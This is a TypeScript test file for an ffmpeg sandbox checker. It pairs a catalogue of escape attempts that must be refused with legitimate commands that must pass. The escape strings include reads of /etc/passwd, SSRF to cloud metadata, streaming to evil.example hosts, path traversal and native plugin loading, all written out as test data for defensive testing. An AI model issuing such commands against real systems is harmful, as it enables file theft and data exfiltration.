import { afterAll, describe, expect, it } from 'vitest';
import { splitCommandText } from './command-text';
import { checkSandbox } from './sandbox';

/**
 * The escape catalogue: known ways an ffmpeg command can reach outside its job folder
 * (files, network, devices, standard streams, native code), each of which must be refused
 * with a reason that says why; and legitimate commands from the spec and the hosted API's
 * docs, each of which must pass untouched.
 */
interface Trick {
  name: string;
  command: string;
  reason: string;
}

const TRICKS: Trick[] = [
  { name: 'an input names an absolute path', command: '-i /etc/passwd {{out_1}}', reason: 'absolute paths are not allowed: /etc/passwd' },
  { name: 'an output names an absolute path', command: '-i {{in_1}} /tmp/out.mp4', reason: 'absolute paths' },
  { name: 'an input climbs out with ..', command: '-i ../secret.mp4 {{out_1}}', reason: 'parent-directory (..)' },
  { name: 'an output climbs out with .. after a folder', command: '-i {{in_1}} sub/../../out.mp4', reason: 'parent-directory' },
  { name: 'a path climbs out with Windows separators', command: "-i {{in_1}} 'sub\\..\\..\\out.mp4'", reason: 'parent-directory' },
  { name: 'a path starts at the home directory', command: '-i ~/secret.mp4 {{out_1}}', reason: 'home-directory (~)' },
  { name: 'a path starts with a drive letter and backslash', command: '-i C:\\\\Windows\\\\win.ini {{out_1}}', reason: 'absolute paths' },
  { name: 'a path starts with a drive letter and slash', command: '-i C:/Windows/win.ini {{out_1}}', reason: 'absolute paths' },
  { name: 'an input is drive-relative', command: '-i C:secret.mp4 {{out_1}}', reason: 'drive-relative' },
  { name: 'a UNC share is named', command: "-i '\\\\server\\share\\x.mp4' {{out_1}}", reason: 'absolute paths' },
  { name: 'dots are percent-encoded', command: '-i %2e%2e/secret.mp4 {{out_1}}', reason: 'percent-encoded' },
  { name: 'slashes are double percent-encoded', command: '-i sub%252fx.mp4 {{out_1}}', reason: 'percent-encoded' },
  { name: 'the file: protocol is used', command: '-i file:/etc/passwd {{out_1}}', reason: 'protocol URLs are not allowed: file:' },
  { name: 'a protocol is written in capitals', command: '-i FILE:secret.mp4 {{out_1}}', reason: 'file:' },
  { name: 'an http URL reaches cloud metadata', command: '-i http://169.254.169.254/latest/meta-data {{out_1}}', reason: 'http:' },
  { name: 'the concat protocol joins a local file', command: '-i "concat:{{in_1}}|/etc/passwd" {{out_1}}', reason: 'concat:' },
  { name: 'the subfile protocol wraps a path', command: '-i "subfile,,start,0,end,100,,:/etc/passwd" {{out_1}}', reason: 'subfile,' },
  { name: 'a data: URI smuggles a playlist', command: '-f hls -i "data:application/x-mpegurl;base64,I0VYVE0zVQ==" {{out_1}}', reason: 'data:' },
  { name: 'pipe: reads an inherited descriptor', command: '-i pipe:3 {{out_1}}', reason: 'pipe:' },
  { name: 'fd: reads an inherited descriptor', command: '-i fd: {{out_1}}', reason: 'fd:' },
  { name: 'a tcp socket is opened', command: '-i tcp://127.0.0.1:22 {{out_1}}', reason: 'tcp:' },
  { name: 'an output streams to udp', command: '-i {{in_1}} -f mpegts udp://239.0.0.1:1234', reason: 'udp:' },
  { name: 'an output streams to rtmps', command: '-i {{in_1}} -f flv rtmps://evil.example/live', reason: 'rtmps:' },
  { name: 'nested protocols hide file access', command: '-i crypto+file:/etc/passwd {{out_1}}', reason: 'crypto+file:' },
  { name: 'a tee output sends a copy to the network', command: '-i {{in_1}} -f tee "{{out_1}}|[f=mpegts]udp://10.0.0.1:5000"', reason: 'udp:' },
  { name: 'a tee output writes a copy to an absolute path', command: '-i {{in_1}} -f tee "{{out_1}}|[f=mp4]/tmp/copy.mp4"', reason: 'absolute paths' },
  { name: 'a lavfi input graph opens an absolute path with movie=', command: '-f lavfi -i "movie=/etc/passwd" {{out_1}}', reason: 'absolute paths' },
  { name: 'a movie= filter names an absolute path', command: '-i {{in_1}} -vf "movie=/etc/hosts[wm];[in][wm]overlay" {{out_1}}', reason: 'absolute paths' },
  { name: 'a subtitles= filter climbs out', command: '-i {{in_1}} -vf "subtitles=filename=../x.srt" {{out_1}}', reason: 'parent-directory' },
  { name: 'drawtext reads a textfile by absolute path', command: '-i {{in_1}} -vf "drawtext=textfile=/etc/passwd" {{out_1}}', reason: 'absolute paths' },
  { name: 'an amovie= filter opens an http URL', command: '-filter_complex "amovie=\'http\\\\://evil.example/a.mp3\'" {{out_1}}', reason: 'http:' },
  { name: 'a filter path is escaped to hide a drive letter', command: '-i {{in_1}} -vf "subtitles=C\\\\\\\\:/x.srt" {{out_1}}', reason: 'absolute paths' },
  { name: 'lut3d reads a file outside', command: '-i {{in_1}} -vf lut3d=file=/opt/luts/x.cube {{out_1}}', reason: 'absolute paths' },
  { name: 'libvmaf writes its log outside', command: '-i {{in_1}} -i {{in_2}} -lavfi libvmaf=log_path=/tmp/v.json -f null -', reason: 'absolute paths' },
  {
    name: 'sendcmd reinits drawtext with a textfile',
    command: '-i {{in_1}} -vf "sendcmd=c=\'0 drawtext reinit textfile=/etc/passwd\',drawtext=text=x" {{out_1}}',
    reason: 'absolute paths',
  },
  {
    name: 'sendcmd reads its commands from a file',
    command: '-i {{in_1}} -vf "sendcmd=f=cmds.txt,drawtext=text=x" {{out_1}}',
    reason: 'must take its commands inline',
  },
  { name: 'a zmq filter listens for commands', command: '-i {{in_1}} -vf "zmq,drawtext=text=x" {{out_1}}', reason: 'from the network' },
  { name: 'a ladspa filter loads a shared library', command: '-i {{in_1}} -af ladspa=file=in_1/evil.so {{out_1}}', reason: 'native plugins' },
  { name: 'a frei0r filter loads a plugin', command: '-i {{in_1}} -vf frei0r=filter_name=distort0r {{out_1}}', reason: 'native plugins' },
  { name: 'a filter option is loaded from a file', command: '-i {{in_1}} -vf "drawtext=/text=notes.txt" {{out_1}}', reason: 'from a file' },
  {
    name: 'movie= opens a concat list with safe=0',
    command: '-i {{in_1}} -vf "movie=list.txt:f=concat:format_opts=safe=0[m];[in][m]overlay" {{out_1}}',
    reason: 'safe=0',
  },
  { name: 'attachments are dumped to a path', command: '-dump_attachment:t /tmp/fonts -i {{in_1}} {{out_1}}', reason: '-dump_attachment is not allowed' },
  { name: 'a filter script is read from a file', command: '-i {{in_1}} -filter_script:v graph.txt {{out_1}}', reason: '-filter_script is not allowed' },
  {
    name: 'a complex filter script is read from a file',
    command: '-i {{in_1}} -filter_complex_script graph.txt {{out_1}}',
    reason: '-filter_complex_script is not allowed',
  },
  { name: 'an option value is read from a file with -/', command: '-i {{in_1}} -/vf graph.txt {{out_1}}', reason: '-/<option>' },
  {
    name: 'the protocol whitelist is widened',
    command: '-protocol_whitelist file,http,tcp -i list.m3u8 {{out_1}}',
    reason: '-protocol_whitelist is not allowed',
  },
  { name: 'a report file is requested', command: '-report -i {{in_1}} {{out_1}}', reason: '-report is not allowed' },
  { name: 'a vstats file is written', command: '-i {{in_1}} -vstats_file stats.log {{out_1}}', reason: '-vstats_file is not allowed' },
  { name: 'progress is sent elsewhere', command: '-progress http://evil.example/p -i {{in_1}} {{out_1}}', reason: '-progress is not allowed' },
  { name: 'an SDP file is written', command: '-i {{in_1}} -f rtp -sdp_file s.sdp rtp://1.2.3.4:5004', reason: '-sdp_file is not allowed' },
  { name: 'standard input is read', command: '-i - {{out_1}}', reason: 'standard input' },
  { name: 'standard output is written', command: '-i {{in_1}} -f mp4 -', reason: 'standard output' },
  { name: 'stdin interaction is re-enabled', command: '-stdin -i {{in_1}} {{out_1}}', reason: '-stdin is not allowed' },
  { name: 'a hardware device node is opened', command: '-init_hw_device vaapi=va:/dev/dri/renderD128 -i {{in_1}} {{out_1}}', reason: 'hardware device paths' },
  {
    name: 'a hwaccel device path is given',
    command: '-hwaccel vaapi -hwaccel_device /dev/dri/renderD128 -i {{in_1}} {{out_1}}',
    reason: 'hardware device paths',
  },
  { name: 'the pass log file is written outside', command: '-i {{in_1}} -pass 1 -passlogfile /tmp/x -f null -', reason: 'absolute paths' },
  { name: 'a glob brace expands to the parent', command: "-pattern_type glob -i '{..,x}/*.png' {{out_1}}", reason: 'parent-directory' },
  { name: 'the screen is captured', command: '-f x11grab -i :0.0 {{out_1}}', reason: 'capture and playback devices' },
  { name: 'a camera is captured', command: '-f v4l2 -i video0 {{out_1}}', reason: 'capture and playback devices' },
  { name: 'a lavfi graph is read from a file', command: '-f lavfi -graph_file g.txt -i dummy {{out_1}}', reason: '-graph_file is not allowed' },
  { name: 'MOV external references are enabled', command: '-enable_drefs 1 -i {{in_1}} {{out_1}}', reason: '-enable_drefs is not allowed' },
  {
    name: 'an encoder writes stats through key=value options',
    command: '-i {{in_1}} -c:v libx264 -x264-params stats=/tmp/x.log {{out_1}}',
    reason: 'absolute paths',
  },
  { name: 'HLS segments are written outside', command: '-i {{in_1}} -hls_segment_filename /var/www/seg_%03d.ts {{out_playlist_1}}', reason: 'absolute paths' },
  { name: 'a preset is read from the home directory', command: '-i {{in_1}} -vpre slow {{out_1}}', reason: '-vpre is not allowed' },
  {
    name: 'an HLS key info file names keys by path',
    command: '-i {{in_1}} -hls_key_info_file key.info {{out_playlist_1}}',
    reason: '-hls_key_info_file is not allowed',
  },
  { name: 'an alias is prefixed to become absolute', command: '-i /{{in_1}} {{out_1}}', reason: 'absolute paths' },
  { name: 'option parsing is ended to pass odd names', command: '-i {{in_1}} -- -out.mp4', reason: '-- (end of options)' },
];

/** Legitimate commands from the spec (4.1, 4.10) and the hosted API's documented examples. */
const LEGITIMATE: { name: string; command: string }[] = [
  {
    name: 'thumbnails every 10 s with select and pad',
    command: `-i {{in_1}} -vf "select='lte(t,60)*gt(trunc(t/10),trunc(prev_t/10))',setpts='PTS*0.025',scale=trunc(oh*a/2)*2:320:force_original_aspect_ratio=decrease,pad=trunc(oh*a/2)*2:320:-1:-1" -an -vsync vfr {{out_1}}`,
  },
  {
    name: 'a split filter graph feeds two outputs',
    command: '-i {{in_1}} -filter_complex "[0:v]split=2[a][b];[a]scale=-2:320[x];[b]scale=-2:180[y]" -map [x] {{out_1}} -map [y] {{out_2}}',
  },
  { name: 'subtitles are burned in from an alias', command: '-i {{in_1}} -vf subtitles={{in_srt}} {{out_1}}' },
  { name: 'subtitles use fonts from the zipped folder', command: '-i movie.mp4 -vf "subtitles=subs.srt:fontsdir=." {{out_1}}' },
  {
    name: 'drawtext uses a font from the zipped folder',
    command: `-i {{in_1}} -vf "drawtext=fontfile=MyFont.ttf:text='Hello World':fontsize=24:x=(w-tw)/2:y=h-th-10" {{out_1}}`,
  },
  { name: 'concat joins files from a list', command: '-f concat -i list.txt -c copy {{out_1}}' },
  { name: 'an image sequence is read with a glob', command: "-framerate 10 -pattern_type glob -i '*.png' -c:v libx264 -pix_fmt yuv420p {{out_1}}" },
  { name: 'numbered frames are written with %03d', command: '-i {{in_1}} -vf fps=1 frame_%03d.png' },
  {
    name: 'an HLS playlist names its segments',
    command: '-i {{in_1}} -c:v libx264 -c:a aac -hls_time 6 -hls_playlist_type vod -hls_segment_filename seg_%03d.ts {{out_playlist_1}}',
  },
  {
    name: 'adaptive HLS uses var_stream_map',
    command:
      '-i {{in_1}} -map 0:v -map 0:a -map 0:v -map 0:a -b:v:0 3000k -b:v:1 1000k -s:v:1 640x360 -f hls -var_stream_map "v:0,a:0 v:1,a:1" -master_pl_name master.m3u8 -hls_segment_filename v%v/seg_%03d.ts v%v/index.m3u8',
  },
  { name: 'one stream is mapped with 0:v:0', command: '-i {{in_1}} -map 0:v:0 -c copy {{out_1}}' },
  { name: 'metadata holds a colon', command: '-i {{in_1}} -metadata title="a:b" -c copy {{out_1}}' },
  { name: 'a frame is grabbed at 00:00:05', command: '-ss 00:00:05 -i {{in_1}} -frames:v 1 -q:v 2 {{out_1}}' },
  {
    name: 'DASH is written with adaptation sets',
    command: '-i {{in_1}} -map 0 -c:v libx264 -c:a aac -f dash -seg_duration 4 -adaptation_sets "id=0,streams=v id=1,streams=a" {{out_playlist_1}}',
  },
  { name: 'video and audio inputs are muxed', command: '-i {{in_video}} -i {{in_audio_1}} -map 0:v -map 1:a -c:v copy -shortest {{out_1}}' },
  {
    name: 'a watermark is overlaid',
    command: '-i {{in_video}} -i {{in_img_1}} -filter_complex "[1:v]scale=120:-1[wm];[0:v][wm]overlay=W-w-10:H-h-10" {{out_1}}',
  },
  {
    name: 'lavfi sources generate test media',
    command: '-f lavfi -i "testsrc=duration=5:size=320x240:rate=25" -f lavfi -i "sine=frequency=1000:duration=5" -shortest {{out_1}}',
  },
  { name: 'the segment muxer writes numbered files', command: '-i {{in_1}} -c copy -f segment -segment_time 10 -reset_timestamps 1 part%03d.mp4' },
  { name: 'encoder parameters hold colons', command: '-i {{in_1}} -c:v libx264 -x264-params keyint=48:min-keyint=48 -movflags +faststart {{out_1}}' },
  { name: 'a two-pass encode uses the null muxer', command: '-y -i {{in_1}} -c:v libx264 -b:v 1M -pass 1 -passlogfile pass -an -f null -' },
  { name: 'audio is normalised', command: '-i {{in_1}} -af "loudnorm=I=-16:TP=-1.5:LRA=11,volume=0.5" {{out_1}}' },
  {
    name: 'a GIF palette graph is built',
    command: '-i {{in_1}} -vf "fps=10,scale=320:-1:flags=lanczos,split[s0][s1];[s0]palettegen[p];[s1][p]paletteuse" -loop 0 {{out_1}}',
  },
  { name: 'drawtext shows a timestamp', command: '-i {{in_1}} -vf "drawtext=text=\'%{pts\\:hms}\':x=10:y=10" {{out_1}}' },
  {
    name: 'a font is attached with its mimetype',
    command: '-i {{in_1}} -attach MyFont.ttf -metadata:s:t mimetype=application/x-truetype-font -c copy {{out_1}}',
  },
  { name: 'the tee muxer writes two local outputs', command: '-i {{in_1}} -map 0 -f tee "[f=mp4]{{out_1}}|[f=matroska]{{out_2}}"' },
  { name: 'a chained step reads an earlier output', command: '-i {{out_1}} -vf scale=320:-2 {{out_2}}' },
];

let refused = 0;
let accepted = 0;

describe('sandbox escape catalogue', () => {
  it.each(TRICKS)('when $name, then it is refused', ({ command, reason }) => {
    const violation = checkSandbox(splitCommandText(command));
    expect(violation?.reason).toContain(reason);
    refused++;
  });

  it.each(LEGITIMATE)('when $name, then it is accepted', ({ command }) => {
    expect(checkSandbox(splitCommandText(command))).toBeNull();
    accepted++;
  });

  it('when the catalogue is counted, then it holds at least 35 tricks and 15 legitimate commands', () => {
    expect(TRICKS.length).toBeGreaterThanOrEqual(35);
    expect(LEGITIMATE.length).toBeGreaterThanOrEqual(15);
  });

  afterAll(() => {
    console.log(`sandbox catalogue: ${refused} tricks refused, ${accepted} legitimate commands accepted`);
  });
});
